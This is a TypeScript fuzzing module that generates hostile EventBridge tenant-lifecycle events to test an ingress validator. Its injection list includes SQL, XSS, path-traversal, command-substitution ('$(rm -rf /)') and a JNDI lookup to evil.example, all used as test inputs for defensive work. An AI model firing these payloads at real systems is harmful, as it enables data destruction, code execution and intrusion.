/**
 * fast-check arbitraries for hostile lifecycle input: EventBridge envelopes and details with
 * missing and extra fields, wrong types, empty and huge strings, unicode, names AWS would refuse,
 * injection-shaped strings; weighted so a fair share is still accepted (an all-rejected run would
 * prove nothing about the accepted path).
 */
import fc from 'fast-check';
import { OPERATIONS } from '../../../src/domain/operations.ts';
import { testConfig } from '../fake-ports.ts';

const contract = testConfig().contract;

/** Every inbound detail-type the default contract accepts, canonical and legacy. */
export const INBOUND_DETAIL_TYPES: readonly string[] = OPERATIONS.flatMap((op) => contract.inbound[op]);

const INJECTIONS = [
  "'; DROP TABLE tenants; --",
  ['$', '{jndi:ldap://evil.example/a}'].join(''),
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '$(rm -rf /)',
  '`id`',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'a\u0000b',
  'line\nbreak',
  ' ',
  '',
  '-leading-hyphen',
  'trailing-hyphen-',
  '_underscore',
  'has space',
  'a/b',
  'a.b',
  'arn:aws:ecs:us-east-1:123456789012:cluster/x',
  'Ünïcödé-ñame',
  '租户',
  '🚀🚀',
  'x'.repeat(64),
  'x'.repeat(65),
  `${'a-'.repeat(40)}z`,
  'A'.repeat(300),
] as const;

/** A safe id (letters, digits, `-`, `_`, ≤ 64, not starting with `-`/`_`), including edge shapes. */
export const safeId = (): fc.Arbitrary<string> =>
  fc.oneof(
    fc.uuid(),
    fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9_-]{0,63}$/),
    fc.constantFrom('a', 'Z9', `a${'-'.repeat(63)}`, `9${'_'.repeat(63)}`, 'x'.repeat(64), 'TENANT--__--1'),
  );

/** Strings meant to hurt: injections, unicode, control characters, empty, huge. */
export const nastyString = (): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(...INJECTIONS),
    fc.string({ maxLength: 80 }),
    fc.string({ unit: 'grapheme', maxLength: 40 }),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.integer({ min: 1_000, max: 200_000 }).map((n) => 'h'.repeat(n)),
  );

/** Any JSON-ish value, of any type. */
export const anyValue = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    nastyString(),
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.constant(undefined),
    fc.array(fc.string({ maxLength: 8 }), { maxLength: 3 }),
    fc.dictionary(fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 }), { maxKeys: 3 }),
  );

const idLike = (): fc.Arbitrary<unknown> =>
  fc.oneof({ arbitrary: safeId(), weight: 6 }, { arbitrary: anyValue(), weight: 2 });

const tierLike = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    {
      arbitrary: fc.constantFrom(
        'basic',
        'advanced',
        'premium',
        'ADVANCED',
        ' Premium ',
        '',
        'gold',
        'basic ',
      ),
      weight: 5,
    },
    { arbitrary: anyValue(), weight: 1 },
  );

/** Extra keys with hostile names and values, as SBT or a console user might add. */
const extraKeys = (): fc.Arbitrary<Record<string, unknown>> =>
  fc.dictionary(fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom(...INJECTIONS)), anyValue(), {
    maxKeys: 4,
  });

/** An SBT-shaped detail: the known fields (each maybe absent or wrong) plus arbitrary extra keys. */
export const detail = (): fc.Arbitrary<Record<string, unknown>> =>
  fc
    .tuple(
      fc.record(
        { tenantId: idLike(), tenantRegistrationId: idLike(), tenantName: anyValue(), tier: tierLike() },
        { requiredKeys: [] },
      ),
      extraKeys(),
    )
    .map(([known, extra]) => ({ ...extra, ...known }));

/** An EventBridge event: each envelope field maybe missing or wrong, the detail maybe junk. */
export const envelope = (): fc.Arbitrary<Record<string, unknown>> =>
  fc
    .tuple(
      fc.record(
        {
          id: fc.oneof({ arbitrary: fc.uuid(), weight: 8 }, { arbitrary: anyValue(), weight: 1 }),
          source: fc.oneof(
            { arbitrary: fc.constantFrom('sbt.control.plane', 'controlPlaneEventSource'), weight: 8 },
            { arbitrary: anyValue(), weight: 1 },
          ),
          'detail-type': fc.oneof(
            { arbitrary: fc.constantFrom(...INBOUND_DETAIL_TYPES), weight: 8 },
            {
              arbitrary: fc.constantFrom('sbt_aws_provisionSuccess', 'SBT_AWS_ONBOARDINGREQUEST'),
              weight: 1,
            },
            { arbitrary: anyValue(), weight: 1 },
          ),
          detail: fc.oneof({ arbitrary: detail(), weight: 8 }, { arbitrary: anyValue(), weight: 1 }),
        },
        { requiredKeys: [] },
      ),
      fc.record(
        {
          version: fc.constant('0'),
          account: fc.string({ maxLength: 12 }),
          time: fc.string({ maxLength: 24 }),
        },
        { requiredKeys: [] },
      ),
    )
    .map(([fields, extra]) => ({ ...extra, ...fields }));

/**
 * A detail that should be accepted: both ids safe, a tier in any accepted spelling or absent, a
 * hostile tenant name and hostile extra keys. Without this share, the all-optional arbitraries above
 * accept only about 4% of what they generate, too few to exercise the accepted path.
 */
export const wellFormedDetail = (): fc.Arbitrary<Record<string, unknown>> =>
  fc
    .tuple(
      fc.record(
        {
          tenantId: safeId(),
          tenantRegistrationId: safeId(),
          tenantName: nastyString(),
          tier: fc.constantFrom('basic', 'advanced', 'premium', 'ADVANCED', ' Premium ', 'Basic'),
        },
        { requiredKeys: ['tenantId', 'tenantRegistrationId'] },
      ),
      extraKeys(),
    )
    .map(([known, extra]) => ({ ...extra, ...known }));

/** An EventBridge event every field of which is usable, carrying a well-formed detail. */
export const wellFormedEnvelope = (): fc.Arbitrary<Record<string, unknown>> =>
  fc.record({
    version: fc.constant('0'),
    id: fc.uuid(),
    source: fc.constantFrom('sbt.control.plane', 'controlPlaneEventSource'),
    'detail-type': fc.constantFrom(...INBOUND_DETAIL_TYPES),
    detail: wellFormedDetail(),
  });

/** Whatever might reach the ingress or a state machine's input. */
export const lifecycleInput = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    { arbitrary: wellFormedEnvelope(), weight: 3 },
    {
      arbitrary: fc
        .tuple(wellFormedDetail(), fc.constantFrom(...OPERATIONS))
        .map(([fields, operation]) => ({ ...fields, operation })),
      weight: 1,
    },
    { arbitrary: envelope(), weight: 6 },
    {
      arbitrary: fc
        .tuple(detail(), fc.oneof(fc.constantFrom(...OPERATIONS), anyValue()))
        .map(([fields, operation]) => ({ ...fields, operation })),
      weight: 2,
    },
    { arbitrary: fc.record({ request: fc.oneof(detail(), anyValue()) }), weight: 1 },
    { arbitrary: anyValue(), weight: 1 },
  );
